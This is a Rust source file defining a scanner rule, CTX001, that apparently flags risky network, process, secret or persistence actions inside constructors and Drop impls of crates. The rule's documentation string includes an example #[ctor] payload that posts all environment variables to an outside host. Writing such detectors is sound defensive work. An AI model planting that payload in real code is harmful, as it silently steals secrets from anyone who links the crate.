use super::risky;
use crate::facts::Cap;
use crate::report::Severity;
use crate::rules::{Family, Hit, Input, RuleInfo, in_context};

pub static INFO: RuleInfo = RuleInfo {
    code: "CTX001",
    name: "unasked-execution",
    family: Family::Context,
    severity: Severity::Critical,
    summary: "code that runs without being called (a constructor, a Drop impl) does something risky",
    doc: "## What it detects\nRisky capabilities (network, processes, secrets, persistence, file-system walks) inside code that runs without being called: functions marked `#[ctor]`/`#[dtor]`, statics placed in `.init_array`/`.CRT$XCU`/`__mod_init_func`, and `Drop` implementations.\n\n## Why\nA dependent that merely links the crate, or drops a value, runs this code. Payloads hide there so that no API call is needed to trigger them.\n\n## Example\n```rust\n#[ctor::ctor]\nfn init() { let _ = ureq::post(\"https://x.vercel.app\").send_string(&std::env::vars().map(|(k,v)| k+\"=\"+&v).collect::<Vec<_>>().join(\"\\n\")); }\n```\n\n## Known false positives\nConstructors that register types or install loggers do not trip it; a `Drop` impl that closes a network connection politely (e.g. sends a `QUIT`) is reported as medium.",
};

pub struct Rule;

impl crate::rules::Rule for Rule {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }
    fn check(&self, i: &Input, out: &mut Vec<Hit>) {
        for f in &i.facts.files {
            let ctor_fns: Vec<&str> = f.evidence.iter().filter(|e| matches!(e.cap, Cap::Constructor { .. })).filter_map(|e| e.func.as_deref()).collect();
            let has_ctor_static = f.has(|c| matches!(c, Cap::Constructor { attr } if attr == "link_section"));
            for e in &f.evidence {
                let in_ctor = e.func.as_deref().is_some_and(|n| ctor_fns.contains(&n));
                if !(e.unasked || in_ctor) {
                    continue;
                }
                let Some(what) = risky(&e.cap) else { continue };
                let how = if in_ctor { "a constructor that runs before main" } else { "code that runs unasked (a `Drop` impl or constructor)" };
                let base = match &e.cap {
                    Cap::Network { .. } | Cap::Process { .. } | Cap::SecretPath { .. } | Cap::EnvEnumerate | Cap::PersistencePath { .. } if in_ctor || has_ctor_static => Severity::Critical,
                    Cap::Network { .. } | Cap::Process { .. } | Cap::SecretPath { .. } | Cap::PersistencePath { .. } => Severity::High,
                    _ => Severity::Medium,
                };
                out.push(Hit::new(in_context(base, f.context), &f.path, e.line, format!("{how} {what}")));
                break;
            }
        }
    }
}
